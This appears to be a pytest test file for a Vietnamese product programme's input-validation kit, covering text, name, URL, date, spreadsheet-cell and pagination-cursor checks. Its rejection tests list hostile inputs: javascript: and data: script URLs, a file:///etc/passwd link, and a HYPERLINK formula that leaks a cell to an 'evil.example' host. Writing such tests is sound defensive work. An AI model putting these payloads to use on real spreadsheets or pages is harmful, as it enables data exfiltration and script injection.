"""The kit's input rules, directly: clean text and names, web links, programme dates, inert
sheet cells and pagination cursors."""

from __future__ import annotations

import base64
import csv
import io
import unicodedata
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ocop_kit.dates import DateOutOfRange, check_programme_date
from ocop_kit.errors import ValidationFailed
from ocop_kit.pagination import decode_cursor, encode_cursor
from ocop_kit.sheets import FORMULA_STARTS, csv_document, inert_cell, inert_row, restore_cell
from ocop_kit.text import TextRefused, check_web_url, clean_name, clean_text


def test_names_are_nfc_trimmed_and_their_inner_spaces_collapsed():
    decomposed = unicodedata.normalize("NFD", "Hợp tác xã Hải Đông")
    assert clean_name(f"  {decomposed} \u00a0  Nam\u3000Định ") == "Hợp tác xã Hải Đông Nam Định"


@pytest.mark.parametrize("name", ["", "   ", "\u00a0\u3000", "...", "-- / --", "★★★", "\u0301"])
def test_blank_or_punctuation_only_names_are_refused(name):
    with pytest.raises(TextRefused) as refused:
        clean_name(name)
    assert refused.value.message_vi and refused.value.message_en


@pytest.mark.parametrize(
    "text",
    [
        "Mật ong\x07\x1b\x00",
        "Mật\x7fong",
        "Mật\x85ong",  # C1 next line
        "Mật\u202eong",  # right-to-left override
        "Mật\u2066ong\u2069",  # isolates
        "\u200b\u200b",
        " \u200d\ufeff ",
    ],
)
def test_control_bidi_and_invisible_only_text_is_refused(text):
    with pytest.raises(TextRefused):
        clean_text(text)
    with pytest.raises(TextRefused):
        clean_text(text, multiline=True)


def test_line_breaks_and_tabs_only_in_multiline_text():
    with pytest.raises(TextRefused):
        clean_text("dòng một\ndòng hai")
    with pytest.raises(TextRefused):
        clean_text("cột\tcột")
    assert clean_text("dòng một\r\ndòng hai\r\tba\n", multiline=True) == "dòng một\ndòng hai\n\tba"


def test_invisible_characters_inside_visible_text_are_kept():
    assert clean_text("Cà\u200bphê") == "Cà\u200bphê"


@given(st.text())
def test_a_cleaned_name_is_clean_and_stays_as_it_is(text):
    try:
        name = clean_name(text)
    except TextRefused:
        return
    assert name == unicodedata.normalize("NFC", name) == name.strip()
    assert "  " not in name
    assert clean_name(name) == name


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT://example.vn/%0Aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox",
        "file:///etc/passwd",
        "ftp://example.vn/a.jpg",
        "//example.vn/a.jpg",
        "https://",
        "https://exa mple.vn/a.jpg",
        "https://example.vn/\x00.jpg",
    ],
)
def test_only_http_and_https_links_are_taken(url):
    with pytest.raises(TextRefused):
        check_web_url(url)


def test_web_links_are_kept_as_written():
    assert check_web_url(" https://ocop.example.vn/anh/1.jpg?w=200 ") == (
        "https://ocop.example.vn/anh/1.jpg?w=200"
    )
    assert check_web_url("HTTP://example.vn") == "HTTP://example.vn"


def test_programme_dates_run_from_2018_to_a_month_after_today():
    today = date(2026, 6, 1)
    assert check_programme_date(date(2018, 1, 1), today) == date(2018, 1, 1)
    assert check_programme_date(date(2026, 7, 1), today) == date(2026, 7, 1)
    for day in (date(1, 1, 1), date(2017, 12, 31), date(2026, 7, 3), date(9999, 12, 31)):
        with pytest.raises(DateOutOfRange) as refused:
            check_programme_date(day, today)
        assert "2018" in refused.value.message_vi and "2018" in refused.value.message_en


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "-2+3", "+84 912", "\t=1"],
)
def test_text_cells_that_start_a_formula_get_a_leading_quote(text):
    assert inert_cell(text) == "'" + text
    assert restore_cell(inert_cell(text)) == text


def test_numbers_and_plain_text_cells_are_left_as_they_are():
    assert inert_row([-2, 1.5, None, "Mật ong", "'quoted"]) == [-2, 1.5, None, "Mật ong", "'quoted"]
    assert restore_cell("'quoted") == "'quoted"


def test_control_characters_no_sheet_holds_are_dropped_from_cells():
    assert inert_cell("Mật\x07\x1b\x00 ong\n") == "Mật ong\n"
    assert inert_cell("\x00=1") == "'=1"


@given(st.text())
def test_no_text_cell_comes_out_starting_a_formula(text):
    cell = inert_cell(text)
    assert not cell.startswith(FORMULA_STARTS)


def test_csv_document_has_a_bom_and_inert_cells():
    document = csv_document([["Tên", "Giá"], ["=1+1", -5]])
    assert document.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
    assert rows == [["Tên", "Giá"], ["'=1+1", "-5"]]


def _b64(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "cursor",
    [
        "bnVsbA",  # null
        "dHJ1ZQ",  # true
        _b64("[1, 2]"),
        _b64('{"id": "x"}'),
        _b64("12"),
        _b64('"a\\u0000b"'),
        _b64(f'"{"x" * 201}"'),
        "%%%",
        "bnVsb",
    ],
)
def test_a_cursor_not_holding_a_key_of_the_right_kind_is_refused(cursor):
    with pytest.raises(ValidationFailed) as refused:
        decode_cursor(cursor, str)
    assert refused.value.errors and refused.value.errors[0]["field"] == "cursor"


def test_a_cursor_round_trips_its_key():
    assert decode_cursor(encode_cursor("0190a1b2-c3d4"), str) == "0190a1b2-c3d4"
    assert decode_cursor(encode_cursor(42), int) == 42
    with pytest.raises(ValidationFailed):
        decode_cursor(encode_cursor(True), int)
